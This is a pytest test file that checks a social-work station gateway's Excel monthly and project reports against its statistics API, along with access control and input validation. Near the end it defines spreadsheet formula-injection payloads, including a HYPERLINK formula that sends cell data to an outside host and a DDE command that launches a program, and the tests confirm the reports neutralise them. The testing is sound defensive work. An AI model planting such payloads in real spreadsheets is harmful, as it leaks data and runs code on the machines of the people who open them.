"""The .xlsx reports, opened with openpyxl and checked cell by cell against the API's figures.

The data is test_stats.py's known dataset (`world`), made through the public API; the monthly
report of a station for a month must show what /v1/stats/summary (and /breakdown for the
station's own records) answer for the same station and month, on every population's sheet.
"""

from __future__ import annotations

import io
from datetime import date, timedelta

import httpx
import pytest
from openpyxl import load_workbook

from shared.labels import TABLES, label
from shared.stats import FIGURES, SYSTEM_FIGURES
from tests.fixtures.gateway import users
from tests.gateway import test_stats
from tests.gateway.test_stats import Down, get_ok

world = test_stats.world  # the stats tests' dataset, as a fixture of this module too

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PROBLEM = "application/problem+json"


def month_of(day: date) -> tuple[str, date, date]:
    first = day.replace(day=1)
    last = (first + timedelta(days=32)).replace(day=1) - timedelta(days=1)
    return first.strftime("%Y-%m"), first, last


async def fetch(gateway, headers: dict, **params):
    r = await gateway.get("/v1/reports/monthly.xlsx", headers=headers, params=params)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == XLSX
    assert r.headers["content-disposition"].startswith("attachment; filename=")
    return load_workbook(io.BytesIO(r.content)), r


def header(ws) -> dict[str, object]:
    """The `label | value` lines above the table."""
    out = {}
    for row in ws.iter_rows(min_row=2, max_col=2, values_only=True):
        if row[0] is None:
            break
        out[row[0]] = row[1]
    return out


def table(ws, tier_heading: str) -> tuple[list[str], dict[str, dict[str, object]]]:
    """The headings and {first cell: {heading: value}} of the table (found by its tier column)."""
    rows = list(ws.iter_rows(values_only=True))
    top = next(i for i, r in enumerate(rows) if len(r) > 1 and r[1] == tier_heading)
    headings = list(rows[top])
    body = {}
    for r in rows[top + 1:]:
        if r[0] is None or r[1] is None and r[2] is None:
            break
        body[r[0]] = dict(zip(headings, r, strict=True))
    return headings, body


def expected(summary: dict, figure: str, population: str | None):
    f = summary["figures"][figure]
    return f["value"] if population is None else f["by_population"].get(population, 0)


class TestMonthlyReport:
    async def test_cells_equal_the_api_figures(self, world):
        w, gw, ids = world, world.gw, {k: s["id"] for k, s in world.tree.items()}
        official = w.headers["county.official"]
        for station, children, day in (("chenghua", ("mengzhuiwan", "shuangqiao"), w.c),
                                       ("mengzhuiwan", ("heping",), w.a)):
            month, first, last = month_of(day)
            book, r = await fetch(gw, official, station_id=ids[station], month=month)
            assert f"haolin-monthly-{ids[station]}-{month}.xlsx" in r.headers["content-disposition"]
            span = {"from": first.isoformat(), "to": last.isoformat()}
            summary = await get_ok(gw, "/v1/stats/summary", official, station_id=ids[station], **span)
            by_child = {w.tree[c]["name"]: await get_ok(gw, "/v1/stats/summary", official, station_id=ids[c], **span)
                        for c in children}
            assert summary["figures"]["person_times"]["value"] > 0  # the month has something to show

            populations = sorted({p for f in summary["figures"].values() for p in f["by_population"]})
            # One sheet for everyone, then one per population counted that month, in the labels' order.
            populations = [p for p in TABLES["population"] if p in populations]
            assert len(populations) >= 2
            assert book.sheetnames == ["全部人群", *[label("population", p, "zh-CN") for p in populations]]
            for sheet, population in [("全部人群", None)] + [(label("population", p, "zh-CN"), p)
                                                             for p in populations]:
                ws = book[sheet]
                assert ws["A1"].value == "社工站月度统计报表"
                head = header(ws)
                assert head["站点"] == w.tree[station]["name"] and head["月份"] == month
                assert head["统计期间"] == f"{first.isoformat()} 至 {last.isoformat()}"
                assert head["人群"] == sheet and head["时区"] == "Asia/Shanghai" and head["生成时间"]
                headings, rows = table(ws, "层级")
                assert headings == ["站点", "层级", *[label("figure", f, "zh-CN") for f in FIGURES], "名册探访覆盖率（%）"]
                assert set(rows) == {*by_child, "本站直属记录", "合计（整个辖区）"}
                for figure in FIGURES:
                    column = label("figure", figure, "zh-CN")
                    assert rows["合计（整个辖区）"][column] == expected(summary, figure, population), (sheet, figure)
                    for name, child in by_child.items():
                        assert rows[name][column] == expected(child, figure, population), (sheet, name, figure)
                # Coverage: visited / on rosters, in per cent; blank where nobody is on a roster.
                for name, figures in (("合计（整个辖区）", summary), *by_child.items()):
                    members = expected(figures, "roster.members", population)
                    assert rows[name]["名册探访覆盖率（%）"] == (
                        round(100 * expected(figures, "roster.visited", population) / members, 1) if members
                        else None), (sheet, name)
                for name in by_child:
                    assert rows[name]["层级"] == label("station_kind", "township" if station == "chenghua"
                                                       else "village", "zh-CN")

            # The station's own records: what the breakdown calls `own`.
            if station == "chenghua":
                _, rows = table(book["全部人群"], "层级")
                for figure in FIGURES:
                    breakdown = await get_ok(gw, "/v1/stats/breakdown", official, metric=figure,
                                             station_id=ids[station], **span)
                    assert rows["本站直属记录"][label("figure", figure, "zh-CN")] == breakdown["own"]["value"], figure

        # In English: the same figures under English labels.
        month, first, last = month_of(w.d)
        book, _ = await fetch(gw, w.headers["county.head"], station_id=ids["chenghua"], month=month, lang="en")
        ws = book.worksheets[0]
        assert ws.title == "All people" and ws["A1"].value == "Monthly statistics report"
        assert header(ws)["Station"] == "Chenghua" and header(ws)["Time zone"] == "Asia/Shanghai"
        headings, rows = table(ws, "Tier")
        summary = await get_ok(gw, "/v1/stats/summary", w.headers["county.head"], station_id=ids["chenghua"],
                               **{"from": first.isoformat(), "to": last.isoformat()})
        assert headings[2:] == [*[label("figure", f, "en") for f in FIGURES], "Roster visit coverage (%)"]
        assert [rows["Total (whole subtree)"][label("figure", f, "en")] for f in FIGURES] == \
            [summary["figures"][f]["value"] for f in FIGURES]
        assert rows["Mengzhuiwan"]["Tier"] == "Township/street station"

    async def test_the_station_system_table_equals_the_summary(self, world):
        w, gw, ids = world, world.gw, {k: s["id"] for k, s in world.tree.items()}
        official = w.headers["county.official"]
        month, first, last = month_of(w.d)
        span = {"from": first.isoformat(), "to": last.isoformat()}
        book, _ = await fetch(gw, official, station_id=ids["chenghua"], month=month)
        lines = list(book["全部人群"].iter_rows(values_only=True))
        top = next(i for i, r in enumerate(lines) if r[0] == "站点体系") + 1
        headings, rows = list(lines[top]), {}
        for r in lines[top + 1:]:
            if r[0] is None:
                break
            rows[r[0]] = dict(zip(headings, r, strict=True))
        assert headings[:2] == ["站点", "层级"]
        assert headings[2:2 + len(SYSTEM_FIGURES)] == [label("figure", f, "zh-CN") for f in SYSTEM_FIGURES]
        wanted = {"Mengzhuiwan": "mengzhuiwan", "Shuangqiao": "shuangqiao", "合计（整个辖区）": "chenghua"}
        assert set(rows) == {*wanted, "本站直属记录"}
        for name, key in wanted.items():
            summary = await get_ok(gw, "/v1/stats/summary", official, station_id=ids[key], **span)
            for figure in SYSTEM_FIGURES:
                assert rows[name][label("figure", figure, "zh-CN")] == summary["system"][figure]["value"], (name, figure)
        # The county holds itself, two townships and a village; its own row is the county station alone.
        assert rows["合计（整个辖区）"]["站点总数"] == 4 and rows["本站直属记录"]["站点总数"] == 1
        assert rows["本站直属记录"]["县级社工总站"] == 1 and rows["Mengzhuiwan"]["村(社区)社工服务室"] == 1
        assert rows["合计（整个辖区）"]["社工"] == 3

    async def test_scope_input_and_a_stopped_service(self, world, admin_headers):
        w, gw, ids = world, world.gw, {k: s["id"] for k, s in world.tree.items()}
        month = month_of(w.d)[0]
        # Outside the caller's subtree: 404 as for a station that does not exist.
        r = await gw.get("/v1/reports/monthly.xlsx", headers=w.headers["mian.head"],
                         params={"station_id": ids["chenghua"], "month": month})
        assert r.status_code == 404 and r.headers["content-type"] == PROBLEM
        await gw.user(admin_headers, "vol.report", "volunteer", ids["heping"])
        r = await gw.get("/v1/reports/monthly.xlsx", headers=await gw.headers_for("vol.report"),
                         params={"month": month})
        assert r.status_code == 403 and r.headers["content-type"] == PROBLEM
        r = await gw.get("/v1/reports/monthly.xlsx", params={"month": month})
        assert r.status_code == 401
        for bad in ("2026-13", "2026-1", "last month"):
            r = await gw.get("/v1/reports/monthly.xlsx", headers=w.headers["county.head"], params={"month": bad})
            assert r.status_code == 422 and [e["field"] for e in r.json()["errors"]] == ["query.month"]
        r = await gw.get("/v1/reports/monthly.xlsx", headers=w.headers["county.head"])
        assert r.status_code == 422 and [e["field"] for e in r.json()["errors"]] == ["query.month"]

        # A stopped service: no report with holes in it.
        clients = gw.app.state.upstreams._clients
        working = clients["volunteers"]
        clients["volunteers"] = httpx.AsyncClient(base_url="http://volunteers", transport=Down())
        try:
            r = await gw.get("/v1/reports/monthly.xlsx", headers={**w.headers["county.head"], "Accept-Language": "zh"},
                             params={"month": month_of(w.d)[0]})
        finally:
            await clients["volunteers"].aclose()
            clients["volunteers"] = working
        assert r.status_code == 502 and r.headers["content-type"] == PROBLEM
        assert r.json()["services"] == ["volunteers"] and "志愿者服务" in r.json()["detail"]


class TestProjectReport:
    @pytest.fixture
    async def project(self, world):
        w, ids = world, {k: s["id"] for k, s in world.tree.items()}
        head = w.headers["county.head"]
        project = await w.post(head, "/v1/projects", {
            "name": "成华区长者关爱项目", "purchaser": "成华区民政局", "operator": "好邻社工中心",
            "station_id": ids["chenghua"], "starts_on": (w.today - timedelta(days=90)).isoformat(),
            "ends_on": (w.today + timedelta(days=90)).isoformat(),
            "targets": [
                {"metric": "groups", "target": 1, "conditions": {"min_sessions": 2, "min_members": 1}},
                {"metric": "activities", "target": 3, "conditions": {"min_participants": 2}},
                {"metric": "person_times.group", "target": 4},
                {"metric": "person_times.casework", "target": 10},
                {"metric": "resources.linked_yuan", "target": 1000}]})
        people = list(w.populations_of)
        group = await w.group(head, project, ids["mengzhuiwan"], w.a, people[:2], target="elderly")
        await w.session(head, group, w.a, people[:2], anonymous=1)
        await w.session(head, group, w.b, people[:1], anonymous=0)
        await w.activity(head, project, ids["shuangqiao"], w.c, people[:1], anonymous=5, yuan="250.5")
        return project

    async def test_cells_equal_the_progress_in_either_language_within_scope(self, world, project):
        gw, head = world.gw, world.headers["county.head"]
        progress = await get_ok(gw, f"/v1/projects/{project['id']}/progress", head)
        assert progress["degraded"] == []
        r = await gw.get(f"/v1/reports/projects/{project['id']}.xlsx", headers=head)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == XLSX
        assert f"haolin-project-{project['id']}.xlsx" in r.headers["content-disposition"]
        ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
        assert ws["A1"].value == "项目产出与目标对照表"
        head_lines = header(ws)
        assert head_lines["项目名称"] == "成华区长者关爱项目" and head_lines["购买方"] == "成华区民政局"
        assert head_lines["统计期间"] == f"{progress['starts_on']} 至 {progress['ends_on']}"
        assert head_lines["统计截至"] == progress["as_of"]
        headings, rows = table(ws, "条件")
        assert headings == ["指标", "条件", "目标值", "当前值", "完成率", "是否达标", "统计来源"]
        assert len(rows) == len(progress["targets"]) == 5
        for target in progress["targets"]:
            row = rows[label("figure", target["metric"], "zh-CN")]
            assert row["目标值"] == target["target"] and row["当前值"] == target["value"], target
            assert row["是否达标"] == ("是" if target["met"] else "否")
            assert row["完成率"] == pytest.approx(target["value"] / target["target"], abs=1e-4)
            assert row["统计来源"] == target["owner"]
        # Spelled out: one group of two sessions; one activity of 6 people; 3 + 1 group person-times.
        assert rows["小组"]["条件"] == "最少成员数 1，最少节数 2" and rows["小组"]["当前值"] == 1
        assert rows["社区活动场次"]["当前值"] == 1 and rows["社区活动场次"]["是否达标"] == "否"
        assert rows["小组活动人次"]["当前值"] == 4 and rows["小组活动人次"]["是否达标"] == "是"
        assert rows["链接资源（元）"]["当前值"] == 250.5

        url = f"/v1/reports/projects/{project['id']}.xlsx"
        r = await gw.get(url, headers=world.headers["county.official"], params={"lang": "en"})
        assert r.status_code == 200, r.text
        ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
        assert ws["A1"].value == "Project outputs against targets"
        _, rows = table(ws, "Conditions")
        assert rows["Groups"]["Conditions"] == "Minimum members 1, Minimum sessions 2"
        # Another city cannot tell the project exists; no login, no report.
        r = await gw.get(url, headers=world.headers["mian.head"])
        assert r.status_code == 404 and r.headers["content-type"] == PROBLEM
        assert (await gw.get(url)).status_code == 401
        assert (await gw.get("/v1/reports/projects/no-such-project.xlsx",
                             headers=world.headers["county.head"])).status_code == 404


# What a lower role may type into a name and a report then shows: Excel formulas (a link that
# sends the sheet's cells away, DDE that runs a program), the other characters spreadsheets read
# as the start of one, and an error code. The tab and CR prefixes are stripped on input, so what
# reaches the workbook starts with "=" as well.
PLANTED = ('=HYPERLINK("http://x/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(1)", "\t=2+2",
           "\r=3+3", "#N/A")


def assert_text(cell, expected: str) -> None:
    """A text cell holding exactly `expected`, which Excel shows as typed (quote prefix) when it
    could be read as a formula."""
    assert cell.data_type == "s", (cell.coordinate, cell.data_type, cell.value)
    assert cell.value == expected, (cell.coordinate, cell.value)
    if expected[:1] in ("=", "+", "-", "@"):
        assert cell.quotePrefix, cell.coordinate


class TestUserTextStaysText:
    async def test_names_that_look_like_formulas_are_text_in_the_monthly_report(self, gateway, admin_headers,
                                                                                gateway_tree):
        county = gateway_tree["chenghua"]
        await gateway.user(admin_headers, "formula.head", "station_head", county["id"])
        head = await gateway.headers_for("formula.head")
        planted = [await gateway.station(head, county["id"], "township", name) for name in PLANTED]
        r = await gateway.get("/v1/reports/monthly.xlsx", headers=admin_headers,
                              params={"station_id": county["id"], "month": f"{date.today():%Y-%m}"})
        assert r.status_code == 200, r.text
        ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
        by_name = {s["name"]: s for s in planted}
        assert set(by_name) == {p.strip() for p in PLANTED}  # as the API stored them
        found: dict[str, list] = {}
        for row in ws.iter_rows():
            first = row[0]
            if first.value in by_name:
                found.setdefault(first.value, []).append(row)
        # Each name in the figures' table and in the station system's below it.
        assert set(found) == set(by_name) and {len(rows) for rows in found.values()} == {2}
        for name, rows in found.items():
            for row in rows:
                assert_text(row[0], name)
                assert_text(row[1], "镇街社工服务站")
                # The figures beside the names stay numbers (the shorter table leaves the sheet's last cells empty).
                figures = [c for c in row[2:] if c.value is not None]
                assert len(figures) >= len(SYSTEM_FIGURES), [c.value for c in row]
                assert all(c.data_type == "n" and isinstance(c.value, int) for c in figures), [c.value for c in row]
            # The figures' table ends with coverage, blank without anyone on a roster.
            assert rows[0][2 + len(FIGURES)].value is None, [c.value for c in rows[0]]

    async def test_a_project_whose_texts_look_like_formulas_is_text_in_its_report(self, gateway, admin_headers,
                                                                                  gateway_tree):
        county = gateway_tree["chenghua"]
        staff = await users(gateway, admin_headers, gateway_tree, ("formula.head", "station_head", "chenghua"))
        head = staff["formula.head"]
        today = date.today()
        for name, purchaser, operator in zip(PLANTED, PLANTED[1:] + PLANTED[:1], PLANTED[2:] + PLANTED[:2],
                                             strict=True):
            r = await gateway.post("/v1/projects", headers=head, json={
                "name": name, "purchaser": purchaser, "operator": operator, "station_id": county["id"],
                "starts_on": (today - timedelta(days=30)).isoformat(),
                "ends_on": (today + timedelta(days=30)).isoformat(),
                "targets": [{"metric": "activities", "target": 3}]})
            assert r.status_code == 201, r.text
            project = r.json()
            r = await gateway.get(f"/v1/reports/projects/{project['id']}.xlsx", headers=head)
            assert r.status_code == 200, r.text
            ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
            lines = {row[0].value: row[1] for row in ws.iter_rows(min_row=2, max_col=2) if row[0].value}
            assert_text(lines["项目名称"], project["name"])
            assert_text(lines["购买方"], project["purchaser"])
            assert_text(lines["承接机构"], project["operator"])
            _, rows = table(ws, "条件")
            target = next(row for row in ws.iter_rows() if row[0].value == "社区活动场次")
            assert target[2].data_type == "n" and target[2].value == 3
            assert target[3].data_type == "n" and target[3].value == 0
            assert rows["社区活动场次"]["目标值"] == 3


class TestCellHelper:
    def test_user_text_is_text_and_numbers_stay_numbers(self):
        from gateway.reports import workbook as wb

        book = wb.new_workbook()
        ws = book.create_sheet("t")
        values = [*PLANTED, "\t=1", "\r=1", "=", "普通站点", 3, 2.5, 0, None, "bell\x07here"]
        for i, value in enumerate(values, start=1):
            wb.put(ws, i, 1, value)
        ws = load_workbook(io.BytesIO(wb.to_bytes(book))).worksheets[0]
        for i, value in enumerate(values, start=1):
            cell = ws.cell(row=i, column=1)
            if isinstance(value, str) and "\x07" in value:
                # A character a workbook cannot hold is replaced, not a failed report.
                assert cell.data_type == "s" and cell.value == "bell\ufffdhere"
            elif isinstance(value, str):
                # An XML reader takes a CR in text as a line feed (XML 1.0, "End-of-Line Handling").
                assert cell.data_type == "s" and cell.value == value.replace("\r", "\n"), (i, cell.value)
                assert cell.quotePrefix == (value[:1] in ("=", "+", "-", "@", "\t", "\r")), (i, value)
            else:
                assert cell.value == value and cell.data_type == "n", (i, cell.value)
